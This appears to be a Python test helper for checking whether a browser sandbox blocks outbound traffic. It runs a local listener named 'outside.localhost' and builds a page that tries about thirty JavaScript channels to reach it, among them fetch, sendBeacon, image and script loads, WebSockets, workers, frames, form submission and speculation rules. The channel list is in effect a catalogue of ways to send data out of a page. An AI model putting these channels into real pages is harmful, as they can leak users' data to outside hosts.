"""The outside world: a listener that notes whatever reaches it, and pages that try to."""

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


@dataclass
class Outside:
    """What reached the listener.

    Attributes:
        url: where it listens, under a name of another site.
        stun: the same machine's port for datagrams.
        paths: the first part of each path that was asked for.
        connections: how many connections were made, asked over or not.
        datagrams: how many datagrams came.
    """

    url: str = ""
    stun: int = 0
    paths: set[str] = field(default_factory=set)
    connections: int = 0
    datagrams: int = 0


def _handler(outside: Outside) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def setup(self) -> None:
            outside.connections += 1
            super().setup()

        def do_GET(self) -> None:
            outside.paths.add(self.path.strip("/").partition("?")[0])
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the server's own name for it

        def log_message(self, *_: object) -> None: ...

    return Handler


@contextmanager
def listening(name: str = "outside.localhost") -> Iterator[Outside]:
    """Listen until the block is left."""
    outside = Outside()

    server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(outside))
    server.daemon_threads = True
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.bind(("127.0.0.1", 0))
    outside.url, outside.stun = f"http://{name}:{server.server_port}", datagrams.getsockname()[1]

    def receive() -> None:
        while datagrams.recv(2048) != b"end":
            outside.datagrams += 1

    threads = [threading.Thread(target=server.serve_forever), threading.Thread(target=receive)]
    for thread in threads:
        thread.start()
    try:
        yield outside
    finally:
        server.shutdown()
        server.server_close()
        datagrams.sendto(b"end", datagrams.getsockname())
        for thread in threads:
            thread.join()
        datagrams.close()


# Each sends its own name. `OUT` is the outside; `await` is allowed; what throws is as good as blocked.
CHANNELS = {
    "fetch": "await fetch(OUT + 'fetch', {mode: 'no-cors'})",
    "post": "await fetch(OUT + 'post', {mode: 'no-cors', method: 'POST', body: 'data'})",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', OUT + 'xhr', false); x.send()",
    "beacon": "navigator.sendBeacon(OUT + 'beacon', 'data')",
    "image": "await add('img', {src: OUT + 'image'})",
    "picture": "document.body.insertAdjacentHTML('beforeend', `<picture><source srcset='${OUT}picture'><img src='data:,'></picture>`)",
    "audio": "await add('audio', {src: OUT + 'audio'})",
    "video-poster": "await add('video', {poster: OUT + 'video-poster'})",
    "script": "await add('script', {src: OUT + 'script'})",
    "module": "await import(OUT + 'module')",
    "style": "await add('link', {rel: 'stylesheet', href: OUT + 'style'})",
    "style-url": "document.body.style.backgroundImage = `url(${OUT}style-url)`",
    "style-import": "const s = await add('style'); s.textContent = `@import url(${OUT}style-import)`",
    "font": "await new FontFace('f', `url(${OUT}font)`).load()",
    "frame": "await add('iframe', {src: OUT + 'frame'})",
    "object": "await add('object', {data: OUT + 'object'})",
    "embed": "await add('embed', {src: OUT + 'embed'})",
    "prefetch": "await add('link', {rel: 'prefetch', href: OUT + 'prefetch'})",
    "preload": "await add('link', {rel: 'preload', as: 'image', href: OUT + 'preload'})",
    "modulepreload": "await add('link', {rel: 'modulepreload', href: OUT + 'modulepreload'})",
    "websocket": "new WebSocket(OUT.replace('http', 'ws') + 'websocket')",
    "event-source": "new EventSource(OUT + 'event-source')",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${OUT}worker', {mode: 'no-cors'})`])))",
    "frame-of-text": "const f = await add('iframe'); f.srcdoc = `<img src='${OUT}frame-of-text'>`",
    "frame-of-data": "await add('iframe', {src: `data:text/html,<img src='${OUT}frame-of-data'>`})",
    "frame-of-bytes": "await add('iframe', {src: URL.createObjectURL(new Blob([`<img src='${OUT}frame-of-bytes'>`], {type: 'text/html'}))})",
    "svg": "document.body.insertAdjacentHTML('beforeend', `<svg><image href='${OUT}svg'/></svg>`)",
    "form-in-frame": "const f = await add('iframe', {name: 'g'}); document.body.insertAdjacentHTML('beforeend', `<form id='h' target='g' action='${OUT}form-in-frame'></form>`); document.getElementById('h').submit()",
    "ping": "const a = await add('a', {href: '#x', ping: OUT + 'ping'}); a.click()",
    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules'; s.text = JSON.stringify({prefetch: [{source: 'list', urls: [OUT + 'speculation'], eagerness: 'immediate'}]}); document.head.append(s)",
}
SCRIPT = """
const OUT = %(outside)r + '/';
const add = async (name, attributes = {}) => {
  const element = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  document.body.append(element);
  return element;
};
const attempts = {%(attempts)s};
window.done = Promise.all(Object.values(attempts).map((attempt) => Promise.race([
  attempt().catch(() => 0), new Promise((end) => setTimeout(end, 2000))])));
"""


def page_of(outside: Outside, channels: dict[str, str]) -> bytes:
    """Write a page that tries these channels when it is opened."""
    attempts = ", ".join(f"{name!r}: async () => {{ {code} }}" for name, code in channels.items())
    script = SCRIPT % {"outside": outside.url, "attempts": attempts}
    return f"<!doctype html><title>x</title><body><script>{script}</script></body>".encode()
